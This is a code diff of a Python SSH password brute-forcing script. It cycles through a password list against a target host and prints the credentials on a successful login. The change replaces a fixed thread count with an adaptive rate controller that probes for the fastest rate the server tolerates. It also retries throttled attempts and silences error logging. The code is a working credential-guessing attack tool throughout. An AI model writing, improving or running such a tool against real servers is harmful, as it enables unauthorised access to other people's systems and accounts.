@@ -1,35 +1,61 @@
+import logging
 import paramiko
+import os
 import sys
+import threading
 from concurrent.futures import ThreadPoolExecutor
-import time
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from util.concurrency import AIMD, ThreadGate, is_fatal, is_throttle, retry_throttled
 
 """"
 pip3 install paramiko
 """
 
-def ssh_attempt(user, host, password):
+# concurrency used to be tuned by hand per target (20 too fast, 10 risky,
+# 7 safe, hydra recommends 4). Now it starts low and the AIMD gate finds the
+# highest rate the server sustains, backing off when it starts dropping us.
+INITIAL_THREADS = 4
+MAX_THREADS = 32
+MAX_RETRIES = 10
+SSH_ERRORS = (EOFError, OSError, paramiko.SSHException)
+
+
+def try_password(user, host, password, gate):
+    """True on success, False when the password was rejected."""
     client = paramiko.SSHClient()
     client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
     try:
-        client.connect(host, username=user, password=password)
-        print(f"[+] Successful login to {host}  \nuser: {user}  \npassword: {password}")
-        exit(0)
-    except EOFError:
-        print("[-] Connection reset by peer, waiting before retrying...")
-        time.sleep(1)  # wait for 1 second
-        # optionally, you can retry the connection here
-        # not yet working properly 
-
+        client.connect(host, username=user, password=password, banner_timeout=15)
+        return True
     except paramiko.AuthenticationException:
+        gate.success()
+        return False
+    finally:
+        client.close()
+
+
+def ssh_attempt(user, host, password, gate, found):
+    try:
+        success = retry_throttled(
+            gate, lambda: try_password(user, host, password, gate), found, SSH_ERRORS, MAX_RETRIES
+        )
+    except SSH_ERRORS as e:
+        if is_fatal(e):
+            print(f"[-] {host} refused the connection, stopping: {e}")
+            found.set()
+        elif is_throttle(e):
+            print(f"[-] Giving up on {password} after {MAX_RETRIES} throttled attempts")
+        else:
+            print(f"SSH error occurred: {str(e)}")
+        return
+    if success:
+        print(f"[+] Successful login to {host}  \nuser: {user}  \npassword: {password}")
+        found.set()
+    elif success is False:
         print(f"[-] Authentication failed {user} : {password}")
         # print(f"\r[-] Authentication failed {user} : {password}", end="\r")
 
-    except paramiko.SSHException as e:
-        print(f"SSH error occurred: {str(e)}")
-    
-
-    finally:
-        client.close()
 
 def main():
     if len(sys.argv) != 3:
@@ -45,20 +71,20 @@ def main():
     with open(password_list, "r", encoding='latin-1') as f:
         passwords = f.read().splitlines()
 
-    # Set the number of threads
-    # threads = 20 # too fast
-    # threads = 10 # risky
-    threads = 7 # safe but fast 
-    # hydra only recommends 4 
-    
+    # dropped connections are handled here, don't let paramiko's transport
+    # thread dump a traceback for each one
+    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
+    gate = ThreadGate(AIMD(initial=INITIAL_THREADS, maximum=MAX_THREADS))
+    found = threading.Event()
 
     try:
-        # Create a thread pool and map the ssh_attempt function to each password
-        with ThreadPoolExecutor(max_workers=threads) as executor:
-            executor.map(lambda password: ssh_attempt(user, host, password), passwords)
+        # the pool only sets the ceiling, the gate decides how many connect at once
+        with ThreadPoolExecutor(max_workers=MAX_THREADS) as executor:
+            executor.map(lambda password: ssh_attempt(user, host, password, gate, found), passwords)
     except KeyboardInterrupt:
         print("Interrupted by user, shutting down...")
         exit(0)
-        
+    print(f"[+] Final concurrency {gate.limit}, throttled {gate.controller.throttles} times")
+
 if __name__ == "__main__":
     main()